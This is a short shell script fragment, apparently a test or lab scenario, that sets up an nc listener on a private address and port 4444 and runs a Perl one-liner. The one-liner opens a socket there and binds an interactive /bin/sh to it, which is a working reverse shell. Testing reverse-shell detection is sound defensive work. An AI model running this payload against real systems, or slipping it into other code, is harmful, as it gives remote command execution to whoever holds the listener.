# Perl does the same with open(STDIN, ">&S").
peers() { (echo id; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() {
  timeout 5 perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton("10.200.1.2"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")'
}
